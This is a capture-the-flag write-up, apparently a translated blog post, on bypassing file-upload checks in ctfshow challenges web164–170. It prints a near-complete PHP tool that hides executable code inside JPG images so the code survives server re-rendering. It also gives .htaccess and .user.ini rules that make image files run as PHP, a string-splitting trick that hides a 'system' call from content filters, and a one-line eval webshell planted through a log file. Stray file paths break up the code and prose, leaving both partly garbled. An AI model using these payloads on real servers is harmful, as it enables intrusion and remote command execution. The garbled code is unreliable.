$img = imagecreatetruecolor(32, 32);for ($y = 0; $y < sizeof($p); $y += 3) {
   $r = $p[$y];
   $g = $p[$y+1];
   $b = $p[$y+2];
   $color = imagecolorallocate($img, $r, $g, $b);
   imagesetpixel($img, round($y / 3), 0, $color);


/* Trojan content

After running, get 1.png, upload it and then download it locally, as shown in the following figure:

  • JPG

Script jpg_payload.php


    The algorithm of injecting the payload into the JPG image, which will keep unchanged after transformations caused by PHP functions imagecopyresized() and imagecopyresampled().It is necessary that the size and quality of the initial image are the same as those of the processed image.

    1) Upload an arbitrary image via secured files upload script
    2) Save the processed image and launch:
    jpg_payload.php <jpg_name.jpg>

    In case of successful injection you will get a specially crafted image, which should be uploaded again.

    Since the most straightforward injection method is used, the following problems can occur:
    1) After the second processing the injected data may become partially corrupted.
    2) The jpg_payload.php script outputs "Something's wrong".
    If this happens, try to change the payload (e.g. add some symbols at the beginning) or try another initial image.

    Sergey Bobrov @Black2Fan.

    See also:


    $miniPayload = "<?=phpinfo();?>";

    if(!extension_loaded('gd') || !function_exists('imagecreatefromjpeg')) {
        die('php-gd is not installed');

    if(!isset($argv[1])) {
        die('php jpg_payload.php <jpg_name.jpg>');


    for($pad = 0; $pad < 1024; $pad++) {
        $nullbytePayloadSize = $pad;
        $dis = new DataInputStream($argv[1]);
        $outStream = file_get_contents($argv[1]);
        $extraBytes = 0;
        $correctImage = TRUE;

        if($dis->readShort() != 0xFFD8) {
            die('Incorrect SOI marker');

        while((!$dis->eof()) && ($dis->readByte() == 0xFF)) {$marker = $dis->readByte();
            $size = $dis->readShort() - 2;
            if($marker === 0xDA) {
                $startPos = $dis->seek();
                $outStreamTmp =
                    substr($outStream, 0, $startPos) .
                    $miniPayload.
                    str_repeat("\0",$nullbytePayloadSize) .
                    substr($outStream, $startPos);
                checkImage('_'.$argv[1], $outStreamTmp, TRUE);
                if($extraBytes !== 0) {
                    while((!$dis->eof())) {
                        if($dis->readByte() === 0xFF) {
                            if($dis->readByte !== 0x00) {
                    $stopPos = $dis->seek() - 2;
                    $imageStreamSize = $stopPos - $startPos;
                    $outStream=
                        substr($outStream, 0, $startPos) .
                        $miniPayload .
                                substr($outStream, $startPos, $imageStreamSize),
                            $nullbytePayloadSize+$imageStreamSize-$extraBytes) .
                                substr($outStream, $stopPos);
                } elseif($correctImage) {
                    $outStream = $outStreamTmp;
                } else {
                if(checkImage('payload_'.$argv[1], $outStream)) {
                } else {
    die('Something\'s wrong');

    function checkImage($filename, $data, $unlink = FALSE) {
        global $correctImage;
        file_put_contents($filename, $data);
        $correctImage = TRUE;
        return $correctImage;

    function custom_error_handler($errno, $errstr, $errfile, $errline) {
        global $extraBytes, $correctImage;
        $correctImage = FALSE;
        if(preg_match('/(\d+) extraneous bytes before marker/', $errstr, $m)) {
            if(isset($m[1])) {
                $extraBytes = (int)$m[1];

    class DataInputStream {
        private $binData;
        private $order;
        private $size;

        public function __construct($filename, $order =false, $fromString = false) {
            $this->binData = '';
            $this->order = $order;
            if(!$fromString) {
                if(!file_exists($filename) || !is_file($filename))
                    die('File not exists ['.$filename.']');
                $this->binData = file_get_contents($filename);
            } else {
                $this->binData = $filename;
            $this->size = strlen($this->binData);

        public function seek() {
            return ($this->size - strlen($this->binData));

        public function skip($skip) {
            $this->binData = substr($this->binData, $skip);

        public function readByte() {
            if($this->eof()) {
                die('End Of File');
            $byte = substr($this->binData, 0, 1);
            $this->binData = substr($this->binData, 1);
            return ord($byte);

        public function readShort() {
            if(strlen($this->binData) < 2) {
                die('End Of File');
            $short = substr($this->binData, 0, 2);
            $this->binData = substr($this->binData, 2);
            if($this->order) {
                $short = (ord($short[1]) << 8) +ord($short[0]);
            } else {
                $short = (ord($short[0]) << 8) + ord($short[1]);
            return $short;

        public function eof() {
            return !$this->binData||(strlen($this->binData) === 0);

1. Just find a JPG picture, upload it to the server, then download it locally and save it as 1.jpg

2. Insert php code; Use script to process 1.jpg, command:

php jpg_payload.php1.jpg

3. Upload pictures of horses; The resulting payload_1.jpg upload.

Note: some jpg images cannot be processed, so try more jpg images

The above quote is from Fujie blog

Specific to this problem, you can upload png files. Try png secondary rendering first

Execute the script bypassed by png secondary rendering to generate 1.png upload and access with command

The returned photo is also a photo. Download the photo and open it with 010

It can be accessed directly in burp, which is more intuitive

Web165 JPG secondary rendering bypass

It is found that JPG files can be uploaded when uploading files, which is probably bypassed by the secondary rendering of jpg

First upload a JPG image, then downloadit locally and rename it to 1.jpg, and then generate a payload using the JPG script above_ 1.jpg

010 opens and finds that the content has been added and the picture color has changed

The url finds that the image cannot be accessed, which actually indicates that the php code has been parsed

Use burp to capture packets and view flag s

web166 - packet capture content

You can see the restriction in the front-end code that you can only upload files in zip format

Casually upload a file and find that it is still included with the file pointer. There is a File Inclusion Vulnerability

Upload the zip file and change the packet capture into one sentenceThen use burp to access

web167-.htaccess bypass

Tip: httpd

It is found that only jpg files can be uploaded when uploading a file casually, and the file is not in the included form, but in the directory form

. htaccess file upload

The. htaccess file (or "distributed configuration file") provides a method to change the configuration for a directory, that is, a file containing one or more instructions is placed in a specific document directory to act on this directory and all its subdirectories

Similar to. user.ini

jpg files can be parsed by uploading. htaccess files

Method 1

AddType application/x-httpd-php .png   //Parse the. png suffix file into phpMethod 2

<FilesMatch "png">
SetHandler application/x-httpd-php

If the flag is not a php file, you can also load a file in the current directory like. user.ini

php_value auto_append_file 'flag'

Upload the. htaccess file first

Upload picture horse

Access command executed successfully

web168 - kill free bypass

The back-end detects the file content, but does not check the file name

Upload free horseOther free horses

$a = "s#y#s#t#e#m";
$b = explode("#",$a);
$c = $b[0].$b[1].$b[2].$b[3].$b[4].$b[5];

web169-170.user.ini contains the log file

The front-end restricts uploading to zip files, but zip files can't be uploaded. Read wp.First upload a zip, then capture the package, change the content type to image/png, and transfer it to php and other formats. However, it is found that the file content is filtered by < > php$

It is found that the. user.ini file can be uploaded

For log file inclusion, the uaheader is a one sentence Trojan horse

<?php @eval($_POST['shell']);?>
// Note that the shell string is wrapped in single quotation marks and an error is reported in double quotation marks

Upload a php file casually. The content is arbitrary. Pay attention to the content type

Use the ant sword to connectOr execute the command directly in the browser, but it's hard to find because of thelarge amount of data

Reference link

Master Yu:https://blog.csdn.net/miuzzx/article/details/109537262Posted by RosieisSweet on Tue,23 Nov 2021 14:34:21 -0800